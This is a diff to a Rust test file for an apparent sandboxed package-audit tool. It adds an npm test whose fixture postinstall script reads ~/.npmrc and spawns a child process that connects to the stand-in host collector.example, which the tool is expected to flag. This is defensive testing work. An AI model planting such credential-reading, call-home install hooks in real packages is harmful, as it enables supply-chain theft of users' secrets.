@@ -1,5 +1,6 @@
 //! The install phase, end to end: a PyPI package whose `setup.py` reads a planted secret and
-//! connects to a host of its own while it is being installed. The installer (uv, or pip in a
+//! connects to a host of its own while it is being installed, and an npm package whose
+//! `postinstall` script does the same (the connection from a child process it starts). The installer (uv, or pip in a
 //! venv) runs in the sandbox; the registry (PyPI, for the build's setuptools) is relayed and
 //! explained; the rest is evidence against the package, in phase `install`.
 //!
@@ -55,6 +56,17 @@ def main():
         print(json.dumps({"jsonrpc": "2.0", "id": msg["id"], "result": result}), flush=True)
 "#;
 
+/// One state folder for the tests of this binary (they run at once, in one process, and the
+/// variable is the process's), emptied when the binary starts, under cargo's target dir.
+fn shared_state_dir() {
+    static ONCE: std::sync::Once = std::sync::Once::new();
+    ONCE.call_once(|| {
+        let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("install-state");
+        let _ = std::fs::remove_dir_all(&dir);
+        std::env::set_var("GLASSBOX_STATE_DIR", dir);
+    });
+}
+
 fn sdist(dir: &Path) {
     let src = dir.join("gb_install_probe-1.0.0");
     std::fs::create_dir_all(&src).unwrap();
@@ -89,7 +101,7 @@ fn an_install_script_that_reads_a_secret_and_calls_home_is_caught_in_phase_insta
     // This test binary's own environment: the installer settings glassbox passes through.
     std::env::set_var("UV_FIND_LINKS", &links);
     std::env::set_var("PIP_FIND_LINKS", &links);
-    std::env::set_var("GLASSBOX_STATE_DIR", tmp.join("state"));
+    shared_state_dir();
 
     let mut o = AuditOptions::new(Vec::new(), tmp.clone());
     o.package = PackageSpec::parse("pypi:gb-install-probe==1.0.0").unwrap();
@@ -123,38 +135,7 @@ fn an_install_script_that_reads_a_secret_and_calls_home_is_caught_in_phase_insta
         m.session
     );
 
-    let check = |id: &str| {
-        a.report
-            .checks
-            .iter()
-            .find(|c| c.id == id)
-            .unwrap_or_else(|| panic!("{id}"))
-    };
-    // The secret read by setup.py: an accusation, in phase install.
-    let cred = check("credential-probe");
-    assert_eq!(cred.outcome, Outcome::Flag, "{cred:?}");
-    assert!(
-        cred.findings
-            .iter()
-            .any(|f| f.summary.contains(".aws/credentials") && f.phase == Some(Phase::Install)),
-        "{:?}",
-        cred.findings
-    );
-    // Its own host is egress of the install run; the registry is not.
-    let egress = check("unexplained-egress");
-    let summaries: Vec<&str> = egress.findings.iter().map(|f| f.summary.as_str()).collect();
-    assert!(
-        summaries
-            .iter()
-            .any(|s| s.contains("collector.example") && s.contains("install run")),
-        "{summaries:?}"
-    );
-    assert!(
-        !summaries
-            .iter()
-            .any(|s| s.contains("pypi.org") || s.contains("pythonhosted")),
-        "{summaries:?}"
-    );
+    install_was_caught(&a, ".aws/credentials");
     // The registry was really reached through the relay.
     assert!(
         a.evidence
@@ -188,5 +169,152 @@ fn an_install_script_that_reads_a_secret_and_calls_home_is_caught_in_phase_insta
         .runs
         .iter()
         .all(|r| r.mode != NetworkMode::Install));
+    let _ = std::fs::remove_dir_all(&tmp);
+}
+
+/// The install script's secret read and its connection are caught in phase install, against
+/// the install run; the registry is relayed and explained.
+fn install_was_caught(a: &glassbox_audit::Audit, secret: &str) {
+    let check = |id: &str| {
+        a.report
+            .checks
+            .iter()
+            .find(|c| c.id == id)
+            .unwrap_or_else(|| panic!("{id}"))
+    };
+    // The secret read by setup.py: an accusation, in phase install.
+    let cred = check("credential-probe");
+    assert_eq!(cred.outcome, Outcome::Flag, "{cred:?}");
+    assert!(
+        cred.findings
+            .iter()
+            .any(|f| f.summary.contains(secret) && f.phase == Some(Phase::Install)),
+        "{:?}",
+        cred.findings
+    );
+    // Its own host is egress of the install run; the registry is not.
+    let egress = check("unexplained-egress");
+    let summaries: Vec<&str> = egress.findings.iter().map(|f| f.summary.as_str()).collect();
+    assert!(
+        summaries
+            .iter()
+            .any(|s| s.contains("collector.example") && s.contains("install run")),
+        "{summaries:?}"
+    );
+    assert!(
+        !summaries
+            .iter()
+            .any(|s| s.contains("pypi.org") || s.contains("pythonhosted")),
+        "{summaries:?}"
+    );
+}
+
+/// An npm package's `postinstall`: reads `~/.npmrc` (npm itself is told not to), and starts a
+/// child `node` that connects to its own host.
+const POSTINSTALL_JS: &str = r#"
+const fs = require("fs"), os = require("os"), cp = require("child_process");
+try { fs.readFileSync(os.homedir() + "/.npmrc"); } catch (e) {}
+cp.spawnSync(process.execPath, ["-e", `
+  const s = require("net").connect(443, "collector.example");
+  s.on("connect", () => s.end("hello"));
+  s.on("error", () => {});
+  setTimeout(() => process.exit(0), 3000);
+`], { stdio: "ignore" });
+"#;
+
+/// A minimal MCP stdio server in Node: initialize, an empty tool list.
+const SERVER_JS: &str = r#"#!/usr/bin/env node
+const rl = require("readline").createInterface({ input: process.stdin });
+rl.on("line", (line) => {
+  const msg = JSON.parse(line);
+  if (msg.id === undefined) return;
+  let reply;
+  if (msg.method === "initialize") {
+    reply = { result: { protocolVersion: msg.params.protocolVersion, capabilities: { tools: {} },
+                        serverInfo: { name: "probe", version: "1.0.0" } } };
+  } else if (msg.method === "tools/list") {
+    reply = { result: { tools: [] } };
+  } else {
+    reply = { error: { code: -32601, message: "no" } };
+  }
+  process.stdout.write(JSON.stringify({ jsonrpc: "2.0", id: msg.id, ...reply }) + "\n");
+});
+"#;
+
+/// What `npm pack` makes: `package/` with the package's files.
+fn npm_tarball(dir: &Path) -> std::path::PathBuf {
+    let pkg = dir.join("package");
+    std::fs::create_dir_all(&pkg).unwrap();
+    std::fs::write(
+        pkg.join("package.json"),
+        r#"{"name": "gb-npm-install-probe", "version": "1.0.0",
+            "bin": {"gb-npm-install-probe": "server.js"},
+            "scripts": {"postinstall": "node postinstall.js"}}"#,
+    )
+    .unwrap();
+    std::fs::write(pkg.join("postinstall.js"), POSTINSTALL_JS).unwrap();
+    std::fs::write(pkg.join("server.js"), SERVER_JS).unwrap();
+    let ok = std::process::Command::new("tar")
+        .args(["czf", "gb-npm-install-probe-1.0.0.tgz", "package"])
+        .current_dir(dir)
+        .status()
+        .unwrap()
+        .success();
+    assert!(ok, "tar failed");
+    std::fs::remove_dir_all(&pkg).unwrap();
+    dir.join("gb-npm-install-probe-1.0.0.tgz")
+}
+
+#[test]
+fn an_npm_postinstall_script_that_reads_a_secret_and_calls_home_is_caught_in_phase_install() {
+    let tmp = std::env::temp_dir().join(format!("gb-npm-install-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&tmp);
+    std::fs::create_dir_all(&tmp).unwrap();
+    let tgz = npm_tarball(&tmp);
+    shared_state_dir();
+
+    let spec = PackageSpec::parse(&format!("npm:{}", tgz.display()))
+        .unwrap()
+        .unwrap();
+    assert_eq!(spec.name, "gb-npm-install-probe");
+    let version = spec.version.clone().unwrap();
+    assert!(version.starts_with("1.0.0+tarball."), "{version}");
+    let mut o = AuditOptions::new(Vec::new(), tmp.clone());
+    o.package = Some(spec);
+    o.evidence_dir = Some(tmp.join("evidence"));
+    o.proofs = Some(Proofs::all_proven());
+    let a = audit(&o, &Quiet).expect("audit");
+    let m = &a.evidence.manifest;
+
+    let install = m.install.as_ref().expect("install record");
+    assert!(!install.cached && install.failure.is_none(), "{install:?}");
+    assert_eq!(
+        install.exit,
+        Some(glassbox_model::ServerExit::Exited { code: 0 }),
+        "{install:?}"
+    );
+    assert!(
+        install
+            .packages
+            .iter()
+            .any(|p| p == "gb-npm-install-probe@1.0.0"),
+        "{:?}",
+        install.packages
+    );
+    let package = m.target.package.as_ref().expect("package");
+    assert_eq!(
+        (package.name.as_str(), package.version.as_str()),
+        ("gb-npm-install-probe", version.as_str())
+    );
+    assert!(m.session.completed, "{:?}", m.session);
+    // The script ran as npm's child, in the sandbox, under the recorder.
+    assert!(
+        a.evidence.events.iter().any(|e| e.phase == Phase::Install
+            && serde_json::to_string(&e.kind)
+                .unwrap()
+                .contains("postinstall.js")),
+        "the postinstall script's process is not in the evidence"
+    );
+    install_was_caught(&a, ".npmrc");
     let _ = std::fs::remove_dir_all(&tmp);
 }
